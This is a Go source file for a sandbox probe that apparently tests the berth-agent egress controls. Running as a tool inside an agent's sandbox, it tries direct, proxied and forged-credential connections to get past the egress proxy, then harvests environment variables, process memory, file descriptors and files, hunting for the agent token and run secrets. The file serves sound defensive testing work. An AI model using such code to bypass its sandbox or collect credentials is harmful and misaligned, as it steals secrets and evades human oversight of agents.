// Command channelprobe plays a tool that wants what berth-agent's own
// egress channel has (docs/adr/0026-agent-own-egress-channel.md): it is
// run by the shell tool in a real run's sandbox and aims at the
// web_search provider's and the HTTP MCP server's hosts every way a tool
// can, then reads everything it can reach for the agent token and the
// run's secrets.
//
//	channelprobe MARK HOST:PORT/PATH...
//
// Each target is tried (a) directly, (b) as a plain-HTTP request through
// HTTP_PROXY, (c) with CONNECT through HTTP_PROXY, (d) with a forged
// Proxy-Authorization, through HTTP_PROXY and straight at the run's socket
// (next to SSL_CERT_FILE, or /run/berth-egress/egress.sock), and, when the
// file planted-agent-token is in the working directory (a test that turns
// the token's wall off put it there), with that token at the run's socket.
// Every request is marked ?atk=MARK-CASE so the target can say who it saw.
//
// It writes channelprobe-result.json (what each case got) and
// channelprobe-loot (everything it read: its environment and stdin, every
// /proc/PID/{environ,cmdline,mem,fd/*} it could open, the files under the
// working directory, $HOME, /tmp, $TMPDIR, /run/berth-egress and the CA
// bundle's directory) into the working directory, for the test to search.
package main

import (
	"bufio"
	"bytes"
	"crypto/tls"
	"encoding/json"
	"fmt"
	"io"
	"io/fs"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"
)

// Result is one case's outcome.
type Result struct {
	Name   string `json:"name"`
	Target string `json:"target"`
	// Dialled is where the probe connected ("" when it could not).
	Dialled string `json:"dialled,omitempty"`
	Err     string `json:"err,omitempty"`
	// Status and Body are the first answer (the proxy's, or the origin's
	// for a direct request); Inner is the origin's answer inside a tunnel.
	Status      int    `json:"status,omitempty"`
	Egress      string `json:"egress,omitempty"`
	Body        string `json:"body,omitempty"`
	InnerStatus int    `json:"inner_status,omitempty"`
	InnerBody   string `json:"inner_body,omitempty"`
}

// Report is the probe's whole output.
type Report struct {
	Socket  string   `json:"socket"`
	Cases   []Result `json:"cases"`
	Loot    Loot     `json:"loot"`
	Planted bool     `json:"planted"`
}

// Loot says what the search read and what it was refused.
type Loot struct {
	Pids     []int    `json:"pids"`
	Read     []string `json:"read"`
	Refused  []string `json:"refused"`
	Bytes    int      `json:"bytes"`
	MemPages int      `json:"mem_pages"`
}

const (
	lootFile   = "channelprobe-loot"
	resultFile = "channelprobe-result.json"
	planted    = "planted-agent-token"
	maxFile    = 1 << 20
	maxLoot    = 64 << 20
)

func main() {
	if len(os.Args) < 3 {
		fmt.Fprintln(os.Stderr, "usage: channelprobe MARK HOST:PORT/PATH...")
		os.Exit(2)
	}
	mark := os.Args[1]
	rep := Report{Socket: runSocket()}
	token, err := os.ReadFile(planted)
	rep.Planted = err == nil
	proxy := proxyAddr()
	forged := []string{"Bearer " + strings.Repeat("0", 64), "Bearer agent", "Bearer " + mark}
	for _, t := range os.Args[2:] {
		hostPort, path, _ := strings.Cut(t, "/")
		path = "/" + path
		name := func(c string) string { return mark + "-" + c + "-" + hostPort }
		marked := func(c string) string {
			u := path + "?atk=" + url.QueryEscape(name(c))
			if strings.HasSuffix(path, "/search") {
				u += "&q=probe"
			}
			return u
		}
		rep.Cases = append(rep.Cases,
			direct(name("direct"), hostPort, marked("direct")),
			plain(name("proxy-get"), "tcp", proxy, hostPort, marked("proxy-get"), ""),
			connect(name("proxy-connect"), "tcp", proxy, hostPort, marked("proxy-connect"), ""),
		)
		for i, f := range forged {
			c := "proxy-forged-" + strconv.Itoa(i)
			rep.Cases = append(rep.Cases, connect(name(c), "tcp", proxy, hostPort, marked(c), f))
			c = "proxy-get-forged-" + strconv.Itoa(i)
			rep.Cases = append(rep.Cases, plain(name(c), "tcp", proxy, hostPort, marked(c), f))
		}
		if rep.Socket != "" {
			rep.Cases = append(rep.Cases, connect(name("socket-no-token"), "unix", rep.Socket, hostPort, marked("socket-no-token"), ""))
			for i, f := range forged {
				c := "socket-forged-" + strconv.Itoa(i)
				rep.Cases = append(rep.Cases, connect(name(c), "unix", rep.Socket, hostPort, marked(c), f))
				c = "socket-get-forged-" + strconv.Itoa(i)
				rep.Cases = append(rep.Cases, plain(name(c), "unix", rep.Socket, hostPort, marked(c), f))
			}
			if rep.Planted {
				auth := "Bearer " + strings.TrimSpace(string(token))
				rep.Cases = append(rep.Cases, connect(name("socket-planted"), "unix", rep.Socket, hostPort, marked("socket-planted"), auth))
			}
		}
	}
	var loot bytes.Buffer
	rep.Loot = plunder(&loot)
	if err := os.WriteFile(lootFile, loot.Bytes(), 0o600); err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	out, _ := json.Marshal(rep)
	if err := os.WriteFile(resultFile, out, 0o600); err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	fmt.Printf("probed %d cases, read %d bytes\n", len(rep.Cases), rep.Loot.Bytes)
}

// runSocket is the run's egress socket as the sandbox can name it.
func runSocket() string {
	var candidates []string
	if ca := os.Getenv("SSL_CERT_FILE"); ca != "" {
		candidates = append(candidates, filepath.Join(filepath.Dir(ca), "egress.sock"))
	}
	candidates = append(candidates, "/run/berth-egress/egress.sock")
	for _, c := range candidates {
		if fi, err := os.Stat(c); err == nil && fi.Mode()&fs.ModeSocket != 0 {
			return c
		}
	}
	return ""
}

func proxyAddr() string {
	u, err := url.Parse(os.Getenv("HTTP_PROXY"))
	if err != nil || u.Host == "" {
		return "127.0.0.1:3128"
	}
	return u.Host
}

func dial(network, addr string) (net.Conn, error) {
	c, err := net.DialTimeout(network, addr, 5*time.Second)
	if err == nil {
		c.SetDeadline(time.Now().Add(20 * time.Second))
	}
	return c, err
}

// direct connects to the target itself and, if that works, asks it over TLS.
func direct(name, hostPort, uri string) Result {
	r := Result{Name: name, Target: hostPort}
	c, err := dial("tcp", hostPort)
	if err != nil {
		r.Err = err.Error()
		return r
	}
	defer c.Close()
	r.Dialled = hostPort
	tc := tls.Client(c, &tls.Config{InsecureSkipVerify: true})
	var err2 error
	if r.Status, r.Body, err2 = ask(tc, uri, hostPort); err2 != nil {
		r.Err = err2.Error()
	}
	return r
}

// plain sends an absolute-form http:// request to the proxy at addr.
func plain(name, network, addr, hostPort, uri, auth string) Result {
	r := Result{Name: name, Target: hostPort}
	c, err := dial(network, addr)
	if err != nil {
		r.Err = err.Error()
		return r
	}
	defer c.Close()
	r.Dialled = addr
	extra := ""
	if auth != "" {
		extra = "Proxy-Authorization: " + auth + "\r\n"
	}
	fmt.Fprintf(c, "GET http://%s%s HTTP/1.1\r\nHost: %s\r\n%sConnection: close\r\n\r\n", hostPort, uri, hostPort, extra)
	resp, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err != nil {
		r.Err = err.Error()
		return r
	}
	body, _ := io.ReadAll(io.LimitReader(resp.Body, 4<<10))
	r.Status, r.Egress, r.Body = resp.StatusCode, resp.Header.Get("X-Berth-Egress"), string(body)
	return r
}

// connect opens a tunnel to the target through the proxy at addr and,
// if it opens, asks the target over TLS inside it.
func connect(name, network, addr, hostPort, uri, auth string) Result {
	r := Result{Name: name, Target: hostPort}
	c, err := dial(network, addr)
	if err != nil {
		r.Err = err.Error()
		return r
	}
	defer c.Close()
	r.Dialled = addr
	extra := ""
	if auth != "" {
		extra = "Proxy-Authorization: " + auth + "\r\n"
	}
	fmt.Fprintf(c, "CONNECT %s HTTP/1.1\r\nHost: %s\r\n%s\r\n", hostPort, hostPort, extra)
	br := bufio.NewReader(c)
	resp, err := http.ReadResponse(br, &http.Request{Method: http.MethodConnect})
	if err != nil {
		r.Err = err.Error()
		return r
	}
	r.Status, r.Egress = resp.StatusCode, resp.Header.Get("X-Berth-Egress")
	if resp.StatusCode != http.StatusOK {
		body, _ := io.ReadAll(io.LimitReader(resp.Body, 4<<10))
		r.Body = string(body)
		return r
	}
	host, _, _ := net.SplitHostPort(hostPort)
	tc := tls.Client(&bufferedConn{Conn: c, r: br}, &tls.Config{InsecureSkipVerify: true, ServerName: host})
	if r.InnerStatus, r.InnerBody, err = ask(tc, uri, hostPort); err != nil {
		r.Err = err.Error()
	}
	return r
}

type bufferedConn struct {
	net.Conn
	r *bufio.Reader
}

func (b *bufferedConn) Read(p []byte) (int, error) { return b.r.Read(p) }

// ask sends the marked request over c: a GET of a search path, an MCP
// initialize POST otherwise.
func ask(c net.Conn, uri, hostPort string) (int, string, error) {
	var req string
	if strings.Contains(uri, "/search") {
		req = fmt.Sprintf("GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", uri, hostPort)
	} else {
		body := `{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"probe","version":"1"}}}`
		req = fmt.Sprintf("POST %s HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nAccept: application/json, text/event-stream\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s", uri, hostPort, len(body), body)
	}
	if _, err := io.WriteString(c, req); err != nil {
		return 0, "", err
	}
	resp, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err != nil {
		return 0, "", err
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(io.LimitReader(resp.Body, 4<<10))
	return resp.StatusCode, string(body), nil
}

// plunder reads everything the sandbox lets it read into out.
func plunder(out *bytes.Buffer) Loot {
	var l Loot
	add := func(what string, data []byte) {
		if out.Len()+len(data) > maxLoot {
			data = data[:max(0, maxLoot-out.Len())]
		}
		fmt.Fprintf(out, "\n== %s\n", what)
		out.Write(data)
		l.Bytes += len(data)
		l.Read = append(l.Read, what)
	}
	refused := func(what string, err error) { l.Refused = append(l.Refused, what+": "+err.Error()) }
	add("env", []byte(strings.Join(os.Environ(), "\n")))
	if data, err := readNonblock(0); err == nil {
		add("stdin", data)
	} else {
		refused("stdin", err)
	}
	// Every process it can list, and, listed or not, its own ancestors
	// (berth-agent among them) and pid 1.
	pids := map[int]bool{1: true, os.Getppid(): true}
	for pid, i := os.Getppid(), 0; pid > 1 && i < 8; i++ {
		pid = parentOf(pid)
		pids[pid] = true
	}
	// Landlock does not govern stat: the pids near its own that exist.
	for pid := max(2, os.Getppid()-256); pid < os.Getppid()+16; pid++ {
		if _, err := os.Stat("/proc/" + strconv.Itoa(pid)); err == nil {
			pids[pid] = true
		}
	}
	entries, err := os.ReadDir("/proc")
	if err != nil {
		refused("/proc", err)
	}
	for _, e := range entries {
		if pid, err := strconv.Atoi(e.Name()); err == nil {
			pids[pid] = true
		}
	}
	for pid := range pids {
		if pid <= 0 {
			continue
		}
		l.Pids = append(l.Pids, pid)
		dir := "/proc/" + strconv.Itoa(pid)
		for _, f := range []string{"environ", "cmdline", "status", "maps"} {
			if data, err := os.ReadFile(filepath.Join(dir, f)); err == nil {
				add(filepath.Join(dir, f), data)
			} else {
				refused(filepath.Join(dir, f), err)
			}
		}
		if pid == os.Getpid() {
			continue // its own memory holds the loot read so far
		}
		if n, err := readMem(dir, add); err != nil {
			refused(dir+"/mem", err)
		} else {
			l.MemPages += n
		}
		fds, err := os.ReadDir(dir + "/fd")
		if err != nil {
			refused(dir+"/fd", err)
			continue
		}
		for _, fd := range fds {
			p := filepath.Join(dir, "fd", fd.Name())
			link, _ := os.Readlink(p)
			add(p+" -> link", []byte(link))
			f, err := os.OpenFile(p, os.O_RDONLY|syscall.O_NONBLOCK, 0)
			if err != nil {
				refused(p, err)
				continue
			}
			if data, err := readCapped(f); err == nil {
				add(p, data)
			}
			f.Close()
		}
	}
	roots := []string{".", os.Getenv("HOME"), "/tmp", os.Getenv("TMPDIR"), "/run/berth-egress", "/workspace"}
	if ca := os.Getenv("SSL_CERT_FILE"); ca != "" {
		roots = append(roots, filepath.Dir(ca))
	}
	for _, root := range roots {
		if root == "" {
			continue
		}
		filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
			if err != nil {
				refused(p, err)
				return nil
			}
			if !d.Type().IsRegular() || filepath.Base(p) == lootFile || filepath.Base(p) == "channelprobe" {
				return nil
			}
			f, err := os.OpenFile(p, os.O_RDONLY|syscall.O_NONBLOCK, 0)
			if err != nil {
				refused(p, err)
				return nil
			}
			defer f.Close()
			if data, err := readCapped(f); err == nil {
				add(p, data)
			} else {
				refused(p, err)
			}
			return nil
		})
	}
	return l
}

// parentOf is pid's parent as /proc/PID/status says, 0 when it cannot be read.
func parentOf(pid int) int {
	data, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	if err != nil {
		return 0
	}
	for _, line := range strings.Split(string(data), "\n") {
		if v, ok := strings.CutPrefix(line, "PPid:"); ok {
			n, _ := strconv.Atoi(strings.TrimSpace(v))
			return n
		}
	}
	return 0
}

func readCapped(f *os.File) ([]byte, error) {
	f.SetReadDeadline(time.Now().Add(time.Second))
	data, err := io.ReadAll(io.LimitReader(f, maxFile))
	if len(data) > 0 {
		return data, nil
	}
	return data, err
}

func readNonblock(fd int) ([]byte, error) {
	if err := syscall.SetNonblock(fd, true); err != nil {
		return nil, err
	}
	return readCapped(os.NewFile(uintptr(fd), "stdin"))
}

// readMem reads the readable mappings of the process at dir through its
// mem file, up to 16 MiB a mapping; it returns the pages read.
func readMem(dir string, add func(string, []byte)) (int, error) {
	mem, err := os.Open(dir + "/mem")
	if err != nil {
		return 0, err
	}
	defer mem.Close()
	maps, err := os.ReadFile(dir + "/maps")
	if err != nil {
		return 0, err
	}
	pages := 0
	var firstErr error
	for _, line := range strings.Split(string(maps), "\n") {
		f := strings.Fields(line)
		if len(f) < 2 || !strings.HasPrefix(f[1], "r") {
			continue
		}
		lo, hi, ok := strings.Cut(f[0], "-")
		if !ok {
			continue
		}
		a, err1 := strconv.ParseUint(lo, 16, 64)
		b, err2 := strconv.ParseUint(hi, 16, 64)
		if err1 != nil || err2 != nil || b <= a {
			continue
		}
		size := min(b-a, 16<<20)
		buf := make([]byte, size)
		n, err := mem.ReadAt(buf, int64(a))
		if n > 0 {
			add(fmt.Sprintf("%s/mem@%x", dir, a), buf[:n])
			pages += n / 4096
		} else if err != nil && firstErr == nil {
			firstErr = err
		}
	}
	if pages == 0 && firstErr != nil {
		return 0, firstErr
	}
	return pages, nil
}
